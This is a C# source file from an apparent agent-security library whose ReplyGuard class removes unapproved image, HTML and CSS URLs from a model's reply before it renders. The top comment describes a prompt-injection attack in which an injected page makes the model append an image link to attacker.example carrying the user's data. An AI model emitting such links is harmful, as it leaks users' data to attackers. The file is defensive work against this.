using System.Text;
using Microsoft.Extensions.Logging;

namespace AgentGuard;

/// <summary>
/// Decides the URLs a model's reply makes the reader's client load unclicked — markdown and HTML images — before the
/// reply is shown. An injected page can have the model end its answer with
/// <c>![](https://attacker.example/p.png?d=</c> followed by the user's data: no tool runs, the client's renderer sends it.
/// Each such URL is decided as a <see cref="ToolKind.RenderedUrl"/> call named <see cref="ToolName"/>, tagged
/// <see cref="Tag"/>, with the URL as its <c>url</c> argument (the default pack's <c>pack-rendered-url-untrusted</c>:
/// after untrusted content, a URL the user or a trusted tool did not give). A URL that is not allowed (denied, or needing an approval nobody can give mid-reply) is removed
/// from the text: an inline image becomes its alt text, a reference definition and an HTML source point nowhere. Every
/// decision is audited as any other; a failure to decide removes the URL.
/// </summary>
public sealed partial class ReplyGuard
{
    /// <summary>The tool name a rendered URL is decided under.</summary>
    public const string ToolName = "render_url";

    /// <summary>The tag a rendered URL carries, for rules to match.</summary>
    public const string Tag = "rendered-url";

    private static readonly string[] Tags = [Tag];

    private readonly ToolGuard _guard;
    private readonly ILogger _logger;

    internal ReplyGuard(ToolGuard guard, ILogger<ReplyGuard> logger)
    {
        _guard = guard;
        _logger = logger;
    }

    /// <summary>
    /// Returns <paramref name="reply"/> with every rendered URL that is not allowed removed (the same string when none
    /// is). Rendered URLs are absolute or protocol-relative ones of inline markdown images, every reference definition
    /// (<c>[id]: url</c>, which an image may use from anywhere), and what a browser fetches, runs or goes to from the
    /// reply's HTML: loading attributes (<c>src</c>, <c>srcset</c>, …; there <c>javascript:</c> and <c>data:</c> URLs
    /// too), CSS, a refresh, a base URL, event handlers and inline documents (decided with their text as the URL, under
    /// the source <c>inline</c>).
    /// </summary>
    /// <param name="reply">The reply's text, as the client will render it.</param>
    /// <param name="context">The session the reply belongs to.</param>
    /// <param name="cancellationToken">Cancels the decisions.</param>
    public ValueTask<string> GuardAsync(string reply, GuardContext context, CancellationToken cancellationToken = default)
        => GuardAsync(reply, context, firstLineQuoted: false, firstLineListIndent: -1, cancellationToken);

    /// <summary>As the public overload, for a streamed part that may start inside a block-quoted line or right after a list item's marker.</summary>
    internal async ValueTask<string> GuardAsync(string reply, GuardContext context, bool firstLineQuoted, int firstLineListIndent, CancellationToken cancellationToken)
    {
        ArgumentNullException.ThrowIfNull(reply);
        ArgumentNullException.ThrowIfNull(context);
        if (!MayRender(reply))
        {
            return reply;
        }

        // Removing a URL joins the text around it; what it joins is read again, until nothing refused is left. A URL
        // is decided once per reply however often it is read.
        var decided = new Dictionary<string, bool>(StringComparer.Ordinal);
        var text = reply;
        for (var pass = 0; pass < MaxPasses; pass++)
        {
            List<RenderedUrl> urls;
            try
            {
                urls = RenderedUrlScanner.Find(text, firstLineQuoted && pass == 0, pass == 0 ? firstLineListIndent : -1);
            }
#pragma warning disable CA1031 // A reply that cannot be read is shown with nothing in it that loads; it never throws into the agent.
            catch (Exception ex)
#pragma warning restore CA1031
            {
                LogReplyUnreadable(ex);
                return Inert(reply);
            }

            // In text order: a loose image's later destinations are found before what stands between.
            urls.Sort(static (a, b) => a.Start.CompareTo(b.Start));
            StringBuilder? rewritten = null;
            var copied = 0;
            foreach (var url in urls)
            {
                if (url.Start < copied)
                {
                    continue;
                }

                if (!decided.TryGetValue(url.Url, out var allowed))
                {
                    decided[url.Url] = allowed = await IsAllowedAsync(url.Url, context, cancellationToken).ConfigureAwait(false);
                }

                if (!allowed)
                {
                    rewritten ??= new StringBuilder(text.Length);
                    rewritten.Append(text, copied, url.Start - copied).Append(url.Replacement);
                    copied = url.Start + url.Length;
                }
            }

            if (rewritten is null)
            {
                return text;
            }

            text = rewritten.Append(text, copied, text.Length - copied).ToString();
        }

        // Still something refused after every pass: nothing in it may load.
        return Inert(text);
    }

    /// <summary>
    /// Whether <paramref name="text"/> holds a character that starts markup which may load a URL (an image, a tag, a
    /// definition): the one check adapters make before resolving a session context for a reply.
    /// </summary>
    internal static bool MayRender(ReadOnlySpan<char> text) => text.IndexOfAny(RenderedUrlScanner.Starts) >= 0;

    /// <summary>Most readings of one reply (each after removing what the last one refused).</summary>
    private const int MaxPasses = 4;

    /// <summary>A guard for one streamed reply: text is passed on as it comes, except a construct that may load a URL, held until it is whole and decided.</summary>
    /// <param name="context">The session the reply belongs to.</param>
    public ReplyStreamGuard Stream(GuardContext context)
    {
        ArgumentNullException.ThrowIfNull(context);
        return new ReplyStreamGuard(this, context);
    }

    private async ValueTask<bool> IsAllowedAsync(string url, GuardContext context, CancellationToken cancellationToken)
    {
        var host = "?";
        try
        {
            host = HostOf(url);
            var call = new ToolCallEvent(ToolName, ToolKind.RenderedUrl)
            {
                Source = host,
                Arguments = ToolArguments.FromPairs([new("url", url)], _guard.ArgumentLimits),
                Tags = Tags,
            };
            var decision = await _guard.AuthorizeAsync(call, context, useApprovalHandler: false, cancellationToken).ConfigureAwait(false);
            if (!decision.IsAllowed)
            {
                LogRenderedUrlRemoved(host, string.Join(",", decision.RuleIds));
            }

            return decision.IsAllowed;
        }
#pragma warning disable CA1031 // A failure to decide removes the URL; the reply is still shown.
        catch (Exception ex) when (!cancellationToken.IsCancellationRequested)
#pragma warning restore CA1031
        {
            LogRenderedUrlCheckFailed(ex, host);
            return false;
        }
    }

    /// <summary>
    /// The reply with nothing left that a renderer reads as an image, a tag or a definition: every <c>&lt;</c> written as
    /// a character reference and every <c>[</c> escaped.
    /// </summary>
    internal static string Inert(string reply) => reply.Replace("<", "&lt;", StringComparison.Ordinal).Replace("[", "\\[", StringComparison.Ordinal);

    /// <summary>
    /// The decision's source: the host a remote URL goes to; else the scheme of a URL that runs or renders itself
    /// (<c>javascript</c>, <c>data</c>); else <c>inline</c> (an event handler, an inline document).
    /// </summary>
    private static string HostOf(string url)
    {
        var slashes = url.IndexOf("//", StringComparison.Ordinal);
        var colon = url.IndexOf(':', StringComparison.Ordinal);
        if (slashes > 0 && colon > 0 && colon < slashes && url.StartsWith("http", StringComparison.OrdinalIgnoreCase))
        {
            return Provenance.ValueTokenizer.HostOf(Provenance.ValueTokenizer.CanonicalUrl(url.AsSpan(slashes + 2))).ToString();
        }

        return colon > 0 && url.AsSpan(0, colon).IndexOfAnyExcept(SchemeCharacters) < 0 ? url[..colon].ToLowerInvariant() : "inline";
    }

    private static readonly System.Buffers.SearchValues<char> SchemeCharacters =
        System.Buffers.SearchValues.Create("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+-.");

    [LoggerMessage(EventId = 1301, Level = LogLevel.Warning, Message = "AgentGuard removed an image of {Host} from a reply (rules {RuleIds}).")]
    private partial void LogRenderedUrlRemoved(LogText host, LogText ruleIds);

    [LoggerMessage(EventId = 1303, Level = LogLevel.Error, Message = "AgentGuard could not read a reply for images; it is shown with its markup made inert.")]
    private partial void LogReplyUnreadable(Exception exception);

    [LoggerMessage(EventId = 1302, Level = LogLevel.Error, Message = "AgentGuard could not decide an image of {Host} in a reply; it was removed.")]
    private partial void LogRenderedUrlCheckFailed(Exception exception, LogText host);
}
